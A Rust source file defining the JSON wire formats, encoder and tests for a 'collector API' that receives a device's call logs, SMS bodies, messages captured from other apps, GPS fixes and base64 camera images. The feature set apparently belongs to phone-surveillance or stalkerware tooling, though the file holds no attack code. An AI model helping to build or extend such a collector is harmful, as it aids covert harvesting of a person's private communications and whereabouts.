//! Wire DTOs for the collector API
//!
//! The collector's contract predates this implementation: field names are
//! capitalized (`Number`, `Date`, `Type`, ...) and timestamps are ISO-8601
//! UTC strings with millisecond precision, except the registration payload,
//! which uses camelCase names and an epoch-millisecond `lastUpdated`. The
//! shapes here must not drift.

use chrono::SecondsFormat;
use serde::Serialize;

use courier_core::record::{
    CallDirection, DeviceProfile, MessageDirection, RecordPayload, SourceRecord, UploadBatch,
};
use courier_core::{DeviceIdentity, Error};

/// One call log entry on the wire
#[derive(Debug, Serialize)]
pub struct CallWire {
    #[serde(rename = "DeviceName")]
    pub device_name: String,
    #[serde(rename = "Number")]
    pub number: String,
    #[serde(rename = "Date")]
    pub date: String,
    #[serde(rename = "Type")]
    pub call_type: &'static str,
    #[serde(rename = "Duration")]
    pub duration: u64,
}

/// One text message on the wire
#[derive(Debug, Serialize)]
pub struct MessageWire {
    #[serde(rename = "DeviceName")]
    pub device_name: String,
    #[serde(rename = "Address")]
    pub address: String,
    #[serde(rename = "Body")]
    pub body: String,
    #[serde(rename = "Date")]
    pub date: String,
    #[serde(rename = "Type")]
    pub message_type: &'static str,
}

/// One app-captured message on the wire
///
/// This endpoint's contract carries no device name.
#[derive(Debug, Serialize)]
pub struct AppMessageWire {
    #[serde(rename = "App")]
    pub app: String,
    #[serde(rename = "Body")]
    pub body: String,
    #[serde(rename = "Type")]
    pub message_type: &'static str,
    #[serde(rename = "Date")]
    pub date: String,
}

/// One location fix on the wire
#[derive(Debug, Serialize)]
pub struct LocationWire {
    #[serde(rename = "DeviceName")]
    pub device_name: String,
    #[serde(rename = "Latitude")]
    pub latitude: f64,
    #[serde(rename = "Longitude")]
    pub longitude: f64,
    #[serde(rename = "Timestamp")]
    pub timestamp: String,
}

/// One captured image on the wire
#[derive(Debug, Serialize)]
pub struct ImageWire {
    #[serde(rename = "DeviceName")]
    pub device_name: String,
    #[serde(rename = "Base64Image")]
    pub base64_image: String,
    #[serde(rename = "Timestamp")]
    pub timestamp: String,
}

/// Device registration payload
#[derive(Debug, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct RegistrationWire {
    pub device_name: String,
    pub model: String,
    pub os_version: String,
    /// Epoch milliseconds
    pub last_updated: i64,
}

impl RegistrationWire {
    /// Build the registration payload for a device
    pub fn new(device: &DeviceIdentity, profile: &DeviceProfile, now_ms: i64) -> Self {
        Self {
            device_name: device.as_str().to_string(),
            model: profile.model.clone(),
            os_version: profile.os_version.clone(),
            last_updated: now_ms,
        }
    }
}

fn wire_timestamp(record: &SourceRecord) -> String {
    record
        .captured_at
        .to_rfc3339_opts(SecondsFormat::Millis, true)
}

fn call_type(direction: CallDirection) -> &'static str {
    match direction {
        CallDirection::Incoming => "INCOMING",
        CallDirection::Outgoing => "OUTGOING",
    }
}

fn message_type(direction: MessageDirection) -> &'static str {
    match direction {
        MessageDirection::Received => "RECEIVED",
        MessageDirection::Sent => "SENT",
    }
}

fn app_message_type(direction: MessageDirection) -> &'static str {
    match direction {
        MessageDirection::Received => "INCOMING",
        MessageDirection::Sent => "OUTGOING",
    }
}

/// Encode a batch as the JSON array the collector expects for its kind
///
/// Returns `InvalidInput` if a record's payload does not match the batch
/// kind; `UploadBatch` construction should make that impossible.
pub fn encode_batch(batch: &UploadBatch) -> Result<serde_json::Value, Error> {
    let mut encoded = Vec::with_capacity(batch.len());

    for record in &batch.records {
        let value = match &record.payload {
            RecordPayload::Call {
                number,
                direction,
                duration_secs,
            } => serde_json::to_value(CallWire {
                device_name: record.device.as_str().to_string(),
                number: number.clone(),
                date: wire_timestamp(record),
                call_type: call_type(*direction),
                duration: *duration_secs,
            })?,
            RecordPayload::Message {
                address,
                body,
                direction,
            } => serde_json::to_value(MessageWire {
                device_name: record.device.as_str().to_string(),
                address: address.clone(),
                body: body.clone(),
                date: wire_timestamp(record),
                message_type: message_type(*direction),
            })?,
            RecordPayload::AppMessage {
                app,
                body,
                direction,
            } => serde_json::to_value(AppMessageWire {
                app: app.clone(),
                body: body.clone(),
                message_type: app_message_type(*direction),
                date: wire_timestamp(record),
            })?,
            RecordPayload::LocationFix {
                latitude,
                longitude,
            } => serde_json::to_value(LocationWire {
                device_name: record.device.as_str().to_string(),
                latitude: *latitude,
                longitude: *longitude,
                timestamp: wire_timestamp(record),
            })?,
            RecordPayload::ImageCapture { jpeg_base64 } => serde_json::to_value(ImageWire {
                device_name: record.device.as_str().to_string(),
                base64_image: jpeg_base64.clone(),
                timestamp: wire_timestamp(record),
            })?,
        };

        if record.kind() != batch.kind {
            return Err(Error::invalid_input(format!(
                "record of kind {} in a {} batch",
                record.kind(),
                batch.kind
            )));
        }

        encoded.push(value);
    }

    Ok(serde_json::Value::Array(encoded))
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::{TimeZone, Utc};
    use courier_core::record::RecordKind;

    fn device() -> DeviceIdentity {
        DeviceIdentity::new("device-under-test")
    }

    fn call_record() -> SourceRecord {
        SourceRecord::new(
            device(),
            Utc.with_ymd_and_hms(2024, 3, 1, 12, 30, 45).unwrap(),
            RecordPayload::Call {
                number: "+15551234567".into(),
                direction: CallDirection::Outgoing,
                duration_secs: 42,
            },
        )
    }

    #[test]
    fn call_wire_uses_contract_field_names() {
        let batch = UploadBatch::single(call_record());
        let encoded = encode_batch(&batch).unwrap();

        let entry = &encoded.as_array().unwrap()[0];
        let keys: Vec<&str> = entry.as_object().unwrap().keys().map(|k| k.as_str()).collect();
        for expected in ["DeviceName", "Number", "Date", "Type", "Duration"] {
            assert!(keys.contains(&expected), "missing wire field {}", expected);
        }
        assert_eq!(entry["Type"], "OUTGOING");
        assert_eq!(entry["Duration"], 42);
        assert_eq!(entry["Date"], "2024-03-01T12:30:45.000Z");
    }

    #[test]
    fn app_message_wire_has_no_device_name() {
        let record = SourceRecord::new(
            device(),
            Utc::now(),
            RecordPayload::AppMessage {
                app: "com.example.chat".into(),
                body: "hello".into(),
                direction: MessageDirection::Sent,
            },
        );
        let encoded = encode_batch(&UploadBatch::single(record)).unwrap();

        let entry = &encoded.as_array().unwrap()[0];
        assert!(entry.get("DeviceName").is_none());
        assert_eq!(entry["App"], "com.example.chat");
        assert_eq!(entry["Type"], "OUTGOING");
    }

    #[test]
    fn location_wire_round_trips_coordinates() {
        let record = SourceRecord::new(
            device(),
            Utc::now(),
            RecordPayload::LocationFix {
                latitude: 48.8566,
                longitude: 2.3522,
            },
        );
        let encoded = encode_batch(&UploadBatch::single(record)).unwrap();

        let entry = &encoded.as_array().unwrap()[0];
        assert_eq!(entry["Latitude"], 48.8566);
        assert_eq!(entry["Longitude"], 2.3522);
    }

    #[test]
    fn registration_wire_uses_camel_case_and_epoch_millis() {
        let profile = DeviceProfile {
            model: "pixel-9".into(),
            os_version: "linux".into(),
        };
        let wire = RegistrationWire::new(&device(), &profile, 1_709_294_400_000);
        let value = serde_json::to_value(&wire).unwrap();

        assert_eq!(value["deviceName"], "device-under-test");
        assert_eq!(value["model"], "pixel-9");
        assert_eq!(value["osVersion"], "linux");
        assert_eq!(value["lastUpdated"], 1_709_294_400_000_i64);
    }

    #[test]
    fn batch_encodes_every_record() {
        let records: Vec<SourceRecord> = (0..3).map(|_| call_record()).collect();
        let batch = UploadBatch::new(RecordKind::Call, records).unwrap();
        let encoded = encode_batch(&batch).unwrap();
        assert_eq!(encoded.as_array().unwrap().len(), 3);
    }
}
